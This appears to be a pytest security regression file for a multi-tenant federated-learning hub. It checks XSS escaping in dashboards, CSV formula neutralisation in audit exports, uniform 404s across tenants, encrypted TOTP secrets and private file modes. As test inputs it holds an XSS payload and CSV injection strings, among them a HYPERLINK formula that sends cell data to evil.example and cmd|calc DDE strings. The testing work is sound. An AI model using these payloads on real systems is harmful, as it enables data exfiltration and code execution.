"""Issue 10, route 8 (output and secrets), against a real hub and its real services.

(a) an experiment named like an XSS payload comes out escaped in the dashboard rendered
with papermill (the widget state the browser would load) and in the widgets;
(b) audit records whose fields start with ``= + - @`` leave the CSV export neutralised;
(c) another tenant's invoice or experiment id gets exactly the body a missing id gets;
(d) TOTP secrets are encrypted in the database and logging in with TOTP still works;
(e) checkpoints, weights, keys and spool are created 0600 in 0700 folders, whatever
the umask of the process that writes them.
"""

from __future__ import annotations

import csv
import html
import io
import json
import os
import sqlite3
import stat
import uuid
from pathlib import Path

import pyotp
import pytest

from tests.harness import settled_period, wait_for

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[2]
EXPERIMENTS = "/services/experiments/api/v1"
AUDIT = "/services/audit/api/v1"
BILLING = "/services/billing/api/v1"
XSS = "<img src=x onerror=alert(1)>"
TINY = {"dataset": "synthetic", "clients": 4, "clients_per_round": 2, "rounds": 2, "seed": 3}


@pytest.fixture(scope="module")
def ohub(hub_factory):
    hub = hub_factory(
        env={
            "FEDHUB_EXPERIMENTS_WORKERS": "1",
            "FEDHUB_EXPERIMENTS_MAX_RUNNING": "1",
            "FEDHUB_AUDIT_INGEST_SECONDS": "0.5",
        }
    )
    admin = hub.token("admin")
    for what, path in [
        ("the experiments service", f"{EXPERIMENTS}/quota?tenant=acme"),
        ("the billing service", f"{BILLING}/invoices"),
        ("the audit service", f"{AUDIT}/events?limit=1"),
    ]:
        wait_for(lambda p=path: hub.api("GET", p, admin).status_code == 200, 120, 0.3, what)
    return hub


@pytest.fixture(scope="module")
def xss_run(ohub):
    """alice's finished experiment, named like a stored-XSS payload."""
    token = ohub.token("alice")
    r = ohub.api("POST", f"{EXPERIMENTS}/experiments", token, json={**TINY, "name": XSS})
    assert r.status_code == 201, r.text
    exp_id = r.json()["id"]

    def finished():
        d = ohub.api("GET", f"{EXPERIMENTS}/experiments/{exp_id}", token).json()
        return d if d["status"] in ("completed", "failed", "cancelled") else None

    done = wait_for(finished, 180, 0.5, "the experiment to finish")
    assert done["name"] == XSS  # stored as typed: escaping is the renderer's job
    return exp_id


# -- (a) stored XSS ------------------------------------------------------------------


def _widget_html_values(nb: dict) -> list[str]:
    state = nb["metadata"]["widgets"]["application/vnd.jupyter.widget-state+json"]["state"]
    return [
        m["state"]["value"]
        for m in state.values()
        if m.get("model_name") == "HTMLModel" and isinstance(m["state"].get("value"), str)
    ]


def test_dashboard_shows_an_experiment_name_escaped(ohub, xss_run, tmp_path, monkeypatch):
    import papermill

    # acme's admin opens the dashboard: the payload is alice's (a member's)
    monkeypatch.setenv("JUPYTERHUB_API_TOKEN", ohub.token("acme-admin"))
    monkeypatch.setenv("FEDHUB_EXPERIMENTS_URL", f"{ohub.url}/services/experiments/")
    out = tmp_path / "dashboard.ipynb"
    papermill.execute_notebook(
        str(ROOT / "notebooks" / "dashboards" / "experiments.ipynb"),
        str(out),
        parameters={"experiment_id": xss_run},
        cwd=str(tmp_path),
        kernel_name="python3",
        progress_bar=False,
    )
    nb = json.loads(out.read_text())
    values = _widget_html_values(nb)
    table = [v for v in values if "fedhub-runs" in v]
    assert table and html.escape(XSS) in table[0], values
    chart = [v for v in values if "fedhub-chart" in v]
    assert chart and html.escape(XSS) in chart[0]
    # nowhere in the executed notebook (widget state, text/html, text/plain) unescaped
    assert not [v for v in values if XSS in v]
    assert XSS not in out.read_text()


class _FakeExperiment:
    """What ExperimentMonitor reads from ``fedhub.experiments.get``, with hostile text."""

    def __init__(self):
        self.name = XSS
        self.info = {
            "id": XSS,
            "name": XSS,
            "status": XSS,
            "error": XSS,
            "rounds": 2,
            "rounds_done": 1,
            "metrics": [{"round": 1, "test_accuracy": 0.5, "test_loss": 1.0}],
        }

    def refresh(self):
        return self


def test_widgets_escape_every_string():
    import ipywidgets as widgets

    from fedhub.extensions.widgets import ExperimentMonitor, QuotaPanel
    from fedhub.extensions.widgets.chart import render

    monitor = ExperimentMonitor(_FakeExperiment(), follow=False)
    quota = QuotaPanel(
        {
            "tenant": XSS,
            "tier": XSS,
            "tier_display_name": XSS,
            "limits": {
                "max_clients_per_experiment": 10,
                "experiments_per_month": 5,
                "max_concurrent_experiments": 1,
                "federated_client_hours_per_month": 2.0,
            },
            "usage": {
                "experiments_this_month": 1,
                "concurrent_experiments": 0,
                "federated_client_hours_this_month": 0.5,
            },
        }
    )

    def html_values(w) -> list[str]:
        found = [w.value] if isinstance(w, widgets.HTML) else []
        for child in getattr(w, "children", ()):
            found += html_values(child)
        return found

    values = html_values(monitor) + html_values(quota) + [render([], 2, XSS)]
    assert all(XSS not in v for v in values), [v for v in values if XSS in v]
    assert sum(html.escape(XSS) in v for v in values) >= 3  # status line, chart, quota title


# -- (b) CSV injection -----------------------------------------------------------------

HOSTILE = {
    "actor": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "target": "+1+cmd|' /C calc'!A0",
    "user_agent": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_audit_csv_export_neutralises_formulas(ohub, monkeypatch):
    from fedhub import events

    monkeypatch.setenv("FEDHUB_STATE_DIR", str(ohub.state_dir))
    monkeypatch.delenv("FEDHUB_EVENTS_SPOOL", raising=False)
    ids = {
        events.emit("security.csv_probe", tenant="acme", **HOSTILE)["id"],
        events.emit(
            "security.csv_probe", tenant="acme", actor="-2+3+cmd|' /C calc'!A0", target="@x"
        )["id"],
    }
    token = ohub.token("acme-admin")

    def exported():
        r = ohub.api(
            "GET",
            f"{AUDIT}/events",
            token,
            params={"format": "csv", "action": "security.csv_probe"},
        )
        assert r.status_code == 200, r.text
        rows = [row for row in csv.DictReader(io.StringIO(r.text)) if row["id"] in ids]
        return rows if len(rows) == len(ids) else None

    rows = wait_for(exported, 60, 0.5, "the probe events in the audit export")
    by_actor = {row["actor"]: row for row in rows}
    first = by_actor["'" + HOSTILE["actor"]]
    assert first["target"] == "'" + HOSTILE["target"].replace("|", "\\|")
    assert first["user_agent"] == "'" + HOSTILE["user_agent"].replace("|", "\\|")
    assert "'-2+3+cmd\\|' /C calc'!A0" in by_actor
    for row in rows:
        for field, value in row.items():
            assert value[:1] not in ("=", "+", "-", "@"), (field, value)


# -- (c) one answer for "not yours" and "does not exist" ----------------------------------


@pytest.fixture(scope="module")
def globex_invoice(ohub) -> int:
    from fedhub import db
    from fedhub.billing import subscriptions
    from fedhub.billing.operations import Billing
    from fedhub.metering import Usage, record

    last = settled_period()
    with db.session_scope(ohub.db_url) as s:
        subscriptions.record_change(s, "globex", "starter", at=last.start)
        record(
            s,
            [
                Usage(
                    "globex", "cpu_seconds", 70 * 3600, last.start, last.start, "t", "g1",
                    username="bob",
                )
            ],
        )  # fmt: skip
    Billing(ohub.db_url).close(last)
    r = ohub.api("GET", f"{BILLING}/invoices?tenant=globex", ohub.token("admin"))
    [inv] = [i for i in r.json()["invoices"] if i["period"] == last.name]
    return inv["id"]


def test_another_tenants_ids_look_like_missing_ones(ohub, globex_invoice, xss_run):
    acme_admin, bob = ohub.token("acme-admin"), ohub.token("bob")
    missing_exp = uuid.uuid4().hex
    pairs = [
        # (caller, another tenant's record, a record that does not exist)
        (acme_admin, f"{BILLING}/invoices/{globex_invoice}", f"{BILLING}/invoices/999999"),
        (
            acme_admin,
            f"{BILLING}/invoices/{globex_invoice}.html",
            f"{BILLING}/invoices/999999.html",
        ),
        (acme_admin, f"{BILLING}/invoices/{globex_invoice}.pdf", f"{BILLING}/invoices/999999.pdf"),
        (bob, f"{EXPERIMENTS}/experiments/{xss_run}", f"{EXPERIMENTS}/experiments/{missing_exp}"),
        (
            bob,
            f"{EXPERIMENTS}/experiments/{xss_run}/weights",
            f"{EXPERIMENTS}/experiments/{missing_exp}/weights",
        ),
        (
            bob,
            f"{EXPERIMENTS}/experiments/{xss_run}/events",
            f"{EXPERIMENTS}/experiments/{missing_exp}/events",
        ),
    ]
    for token, theirs, nothing in pairs:
        a, b = ohub.api("GET", theirs, token), ohub.api("GET", nothing, token)
        assert a.status_code == b.status_code == 404, (theirs, a.text, b.text)
        assert a.json() == b.json(), (theirs, a.text, b.text)
        assert a.json()["error"]["code"] == "not_found"
        for name in ("globex", "acme", "alice", "bob"):
            assert name not in a.text, (theirs, a.text)
    cancel = f"{EXPERIMENTS}/experiments/%s/cancel"
    a = ohub.api("POST", cancel % xss_run, bob)
    b = ohub.api("POST", cancel % missing_exp, bob)
    assert a.status_code == b.status_code == 404 and a.json() == b.json()
    # the platform admin still reaches every tenant's record
    assert ohub.api("GET", f"{BILLING}/invoices/{globex_invoice}", ohub.token("admin")).ok
    # naming another tenant in a query answers like naming no tenant at all: the only
    # name in the body is the one the caller typed
    for path in (f"{AUDIT}/events", f"{BILLING}/budget", f"{EXPERIMENTS}/quota"):
        a = ohub.api("GET", path, acme_admin, params={"tenant": "globex"})
        b = ohub.api("GET", path, acme_admin, params={"tenant": "nosuchtenant"})
        assert a.status_code == b.status_code == 404, (path, a.text, b.text)
        assert a.text.replace("globex", "X") == b.text.replace("nosuchtenant", "X")


# -- (d) TOTP secrets encrypted at rest ----------------------------------------------------


def _stored_secret(hub, username: str) -> str:
    path = hub.db_url.removeprefix("sqlite:///")
    with sqlite3.connect(path, timeout=30) as conn:
        (value,) = conn.execute(
            "select totp_secret from fedhub_local_credentials where username = ?", (username,)
        ).fetchone()
    return value


def test_totp_secret_is_encrypted_and_login_still_works(ohub):
    hub = ohub
    hub.fedhub("user", "add", "tess", "--tenant", "globex", "--password", "Output-test-pw-1")
    out = hub.fedhub("user", "totp", "tess").stdout
    uri = next(line for line in out.splitlines() if line.startswith("otpauth://"))
    totp = pyotp.parse_uri(uri)
    stored = _stored_secret(hub, "tess")
    assert totp.secret not in stored and stored.startswith("enc:v1:")
    assert hub.login("tess", "Output-test-pw-1").status_code == 403  # the code is required
    assert hub.login("tess", "Output-test-pw-1", otp=totp.now()).status_code == 302
    # the key is a file outside the database, private to the hub's account
    key = hub.state_dir / "keys" / "totp.key"
    assert _mode(key) == 0o600 and _mode(key.parent) == 0o700
    assert totp.secret not in key.read_text()


def test_a_secret_stored_in_clear_is_sealed_and_keeps_working(ohub):
    hub = ohub
    hub.fedhub("user", "add", "lena", "--tenant", "globex", "--password", "Output-test-pw-2")
    hub.fedhub("user", "totp", "lena")
    secret = pyotp.random_base32()
    path = hub.db_url.removeprefix("sqlite:///")
    with sqlite3.connect(path, timeout=30) as conn:  # as fedhub stored it before encryption
        conn.execute(
            "update fedhub_local_credentials set totp_secret = ? where username = 'lena'",
            (secret,),
        )
    out = hub.fedhub("db", "reseal-totp").stdout
    assert "re-encrypted" in out
    stored = _stored_secret(hub, "lena")
    assert secret not in stored and stored.startswith("enc:v1:")
    assert hub.login("lena", "Output-test-pw-2", otp=pyotp.TOTP(secret).now()).status_code == 302


def test_migration_seals_clear_secrets(tmp_path, monkeypatch):
    from alembic import command

    from fedhub import db
    from fedhub.tenancy import passwords
    from fedhub.tenancy.store import TenantStore

    monkeypatch.setenv("FEDHUB_TOTP_KEY_FILE", str(tmp_path / "keys" / "totp.key"))
    url = f"sqlite:///{tmp_path / 'f.sqlite'}"
    db.upgrade(url)
    store = TenantStore(url)
    store.create_tenant("acme")
    store.add_user("ann", "acme", password="ann-password-1")
    store.enable_totp("ann")
    # back to before encryption: the downgrade stores the secret in clear
    command.downgrade(db.alembic_config(url), "0007_signup")  # and 0008's dependants
    with sqlite3.connect(tmp_path / "f.sqlite") as conn:
        (clear,) = conn.execute("select totp_secret from fedhub_local_credentials").fetchone()
    assert not clear.startswith("enc:")
    secret = pyotp.random_base32()
    with sqlite3.connect(tmp_path / "f.sqlite") as conn:
        conn.execute("update fedhub_local_credentials set totp_secret = ?", (secret,))
    assert passwords.verify_totp(secret, pyotp.TOTP(secret).now()) is not None  # still works
    db.upgrade(url)  # what `fedhub db upgrade` and the hub's start run
    db.dispose_engines()
    with sqlite3.connect(tmp_path / "f.sqlite") as conn:
        (stored,) = conn.execute("select totp_secret from fedhub_local_credentials").fetchone()
    assert stored.startswith("enc:v1:") and secret not in stored
    assert passwords.verify_totp(stored, pyotp.TOTP(secret).now()) is not None


# -- (e) files private from the start ---------------------------------------------------------


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_run_files_on_the_hub_are_private(ohub, xss_run):
    done = ohub.api("GET", f"{EXPERIMENTS}/experiments/{xss_run}", ohub.token("alice")).json()
    assert done["status"] == "completed", done.get("error")
    run = ohub.state_dir / "experiments" / xss_run
    files = [run / "experiment.pkl", run / "final.pt", *run.glob("round-*.ckpt")]
    assert len(files) > 2, sorted(p.name for p in run.iterdir())
    assert {p.name: _mode(p) for p in files} == {p.name: 0o600 for p in files}
    assert _mode(run) == 0o700 and _mode(run.parent) == 0o700
    # everything the hub and its services wrote under these folders so far (the audit
    # keys are made on first use: at least the master key exists by now)
    assert (ohub.state_dir / "audit" / "master.key").exists()
    for top in ("experiments", "audit", "spool", "keys"):
        folder = ohub.state_dir / top
        if not folder.exists():
            continue
        for p in [folder, *folder.rglob("*")]:
            assert _mode(p) == (0o700 if p.is_dir() else 0o600), (str(p), oct(_mode(p)))


@pytest.fixture
def open_umask():
    """A permissive umask, so only explicit modes can make a file private."""
    old = os.umask(0o022)
    yield
    os.umask(old)


def test_writers_create_private_files_whatever_the_umask(tmp_path, monkeypatch, open_umask):
    from fedhub import events
    from fedhub.audit import AuditLog
    from fedhub.fl import checkpoint
    from fedhub.tenancy.totp import TotpSecretBox

    # FL checkpoints and final weights: every missing folder 0700, every file 0600
    run = tmp_path / "state" / "experiments" / "abc"
    checkpoint.save_experiment(run, {"model": "x"})
    checkpoint.save_state(run, {"round": 1, "weights": [1.0]})
    checkpoint.save_weights(run / "final.pt", {"w": [1.0]})
    for p in run.iterdir():
        assert _mode(p) == 0o600, p
    assert _mode(run) == _mode(run.parent) == _mode(run.parent.parent) == 0o700

    # audit keys and signed checkpoint files
    url = f"sqlite:///{tmp_path / 'a.sqlite'}"
    from fedhub import db

    db.upgrade(url)
    audit_dir = tmp_path / "audit"
    log = AuditLog(db_url=url, audit_dir=str(audit_dir))
    log.append([events.make_event("security.file_probe", tenant="acme", actor="x")])
    assert log.checkpoint("acme")
    cps = list((audit_dir / "checkpoints" / "acme").glob("*.json"))
    assert cps
    for p in [*audit_dir.glob("*.*"), *cps]:
        assert _mode(p) == 0o600, p
    for d in (audit_dir, audit_dir / "checkpoints", audit_dir / "checkpoints" / "acme"):
        assert _mode(d) == 0o700, d

    # the TOTP key file
    box = TotpSecretBox(key_file=str(tmp_path / "keys" / "totp.key"))
    box.seal("JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP")
    assert _mode(tmp_path / "keys" / "totp.key") == 0o600
    assert _mode(tmp_path / "keys") == 0o700

    # the events spool
    spool = tmp_path / "spool"
    monkeypatch.setenv("FEDHUB_EVENTS_SPOOL", str(spool))
    events.emit("security.file_probe", tenant="acme")
    assert _mode(spool) == 0o700
    assert all(_mode(p) == 0o600 for p in spool.iterdir())
